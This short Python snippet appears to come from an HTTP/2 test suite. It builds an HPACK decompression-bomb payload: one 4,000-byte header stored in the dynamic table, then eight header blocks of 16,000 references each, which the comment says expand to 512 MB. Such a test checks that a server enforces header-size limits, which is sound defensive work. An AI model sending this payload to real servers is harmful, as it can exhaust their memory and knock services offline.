# A value of 4,000 bytes into the table once, and then 16,000 references to it in each of 8 blocks: 512 MB.
entry = b"\x40" + length(7, 1) + b"a" + length(7, 4000) + b"b" * 4000
blocks = b"".join(frame(HEADERS, END_HEADERS, n, b"\xbe" * 16_000) for n in range(3, 19, 2))
talk(("client", PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, entry) + blocks))
